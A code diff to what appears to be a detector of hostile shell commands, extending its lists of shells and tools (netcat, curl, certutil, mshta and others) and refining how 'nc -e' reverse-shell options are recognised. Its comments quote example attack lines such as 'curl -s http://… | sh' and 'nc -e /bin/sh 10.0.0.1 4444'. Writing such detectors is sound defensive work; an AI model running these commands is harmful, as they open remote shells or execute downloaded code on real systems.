@@ -13,7 +13,7 @@
 // (`certutil -hashfile`, `wmic os get caption`), is left to the model. Read by core/payloads.ts;
 // total and allocation-free.
 
-import { byteAt, indexOfWord, isLetter, isSpaceOrTab, lowerAscii, matchesLowerAt, skipSpacesAndTabs } from "../lib/bytes";
+import { byteAt, indexOfWord, isLetter, isSpaceOrTab, isWordChar, lowerAscii, matchesLowerAt, skipSpacesAndTabs } from "../lib/bytes";
 
 const POWERSHELL = 0, PWSH = 1, CERTUTIL = 2, BITSADMIN = 3, REGSVR32 = 4, RUNDLL32 = 5, MSHTA = 6, WMIC = 7,
   MSIEXEC = 8, CSCRIPT = 9, WSCRIPT = 10, CMD = 11, AWK = 12, GAWK = 13, CURL = 14, WGET = 15, NC = 16, NCAT = 17,
@@ -36,9 +36,11 @@ const WMIC_ARGS: StaticArray<string> = ["call create", "/format:"];
 const SCRIPT_ARGS: StaticArray<string> = ["//e:", "/e:", "\\\\"];
 // socat's addresses that run a program (`exec:sh`, `system:…`).
 const SOCAT_RUNS: StaticArray<string> = ["exec:", "system:"];
-// What a download is piped to that runs it (`curl -s http://… | sh`), a path before it allowed.
+// What a download is piped to that runs it (`curl -s http://… | sh`), or netcat runs for its peer
+// (`nc -e /bin/sh …`, `nc.exe -e cmd.exe …`), a path before it allowed.
 const SHELLS: StaticArray<string> = [
   "sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcsh", "fish", "python", "python2", "python3", "perl", "ruby", "php", "node",
+  "cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh",
 ];
 // What a one-line program that opens a shell or a socket, or runs a command, holds.
 const CODE_MARKERS: StaticArray<string> = [
@@ -60,8 +62,8 @@ const MAX_WORD = 96;
   let f = <u32>load<u8>(FIRST + <usize>load<u8>(p));
   if (f <= OPENS) return f == OPENS;
   let second = lowerAscii(<u32>load<u8>(p, 1)), third = lowerAscii(<u32>load<u8>(p, 2));
-  // A blank third stands for a two-letter name's end (`nc `): bit 26.
-  if (third == 0x20) third = 0x61 + 26;
+  // A blank or a `.` third stands for a two-letter name's end (`nc `, `nc.exe`): bit 26.
+  if (third == 0x20 || third == 0x2E) third = 0x61 + 26;
   if (second - 0x61 < 26 && third - 0x61 < 27) {
     return ((load<u32>(THIRD_LETTERS + ((<usize>(f - LETTER) * 26 + <usize>(second - 0x61)) << 2)) >>> (third - 0x61)) & 1) != 0;
   }
@@ -163,23 +165,33 @@ function pipedToShell(p: usize, e: i32, s: i32, afterUrl: bool): bool {
     if (afterUrl && !containsOneOf(p, i, s, URL_ARGS)) continue;
     let j = skipSpacesAndTabs(p, e, i + 1);
     if (matchesLowerAt(p, e, j, "sudo") && isSpaceOrTab(byteAt(p, e, j + 4))) j = skipSpacesAndTabs(p, e, j + 4);
-    // The name's last path segment (`/bin/bash`), to a blank, a separator or the line's end.
-    let w = j;
-    while (w < e && !isSpaceOrTab(load<u8>(p + <usize>w)) && load<u8>(p + <usize>w) != 0x3B) w++;
-    let k = w;
-    while (k > j && load<u8>(p + <usize>(k - 1)) != 0x2F) k--;
-    if (indexOfWord(p, e, k, w - k, SHELLS) >= 0) return true;
+    if (shellAt(p, e, j)) return true;
   }
   return false;
 }
 
+// Whether the word at j names one of SHELLS: its last path segment (`/bin/bash`, `C:\…\cmd.exe`),
+// to the first byte no path holds (a blank, `;`, `&`: `-e /bin/sh&`).
+function shellAt(p: usize, e: i32, j: i32): bool {
+  let w = j;
+  while (w < e) {
+    let c = <u32>load<u8>(p + <usize>w);
+    if (!(isWordChar(c) || c == 0x2E || c == 0x2F || c == 0x5C || c == 0x3A || c == 0x2D)) break;
+    w++;
+  }
+  let k = w;
+  while (k > j && load<u8>(p + <usize>(k - 1)) != 0x2F && load<u8>(p + <usize>(k - 1)) != 0x5C) k--;
+  return indexOfWord(p, e, k, w - k, SHELLS) >= 0;
+}
+
 // Whether p[s..e) holds netcat's option that runs a program for the peer: `-e` or `-c` as a word
-// (`nc -e /bin/sh 10.0.0.1 4444`), or ncat's `--exec`, `--sh-exec`, `--lua-exec`.
+// before a shell (`nc -e /bin/sh 10.0.0.1 4444`; `nc -e is disabled …` is a sentence), or ncat's
+// `--exec`, `--sh-exec`, `--lua-exec`.
 function execOption(p: usize, e: i32, s: i32): bool {
   for (let i = s; i + 1 < e; i++) {
     if (load<u8>(p + <usize>i) != 0x2D || !isSpaceOrTab(byteAt(p, e, i - 1))) continue;
     let c = byteAt(p, e, i + 1);
-    if ((c == 0x65 || c == 0x63) && (i + 2 == e || isSpaceOrTab(byteAt(p, e, i + 2)))) return true;
+    if ((c == 0x65 || c == 0x63) && i + 2 < e && isSpaceOrTab(load<u8>(p + <usize>(i + 2))) && shellAt(p, e, skipSpacesAndTabs(p, e, i + 2))) return true;
     if (matchesLowerAt(p, e, i, "--exec") || matchesLowerAt(p, e, i, "--sh-exec") || matchesLowerAt(p, e, i, "--lua-exec")) return true;
   }
   return false;
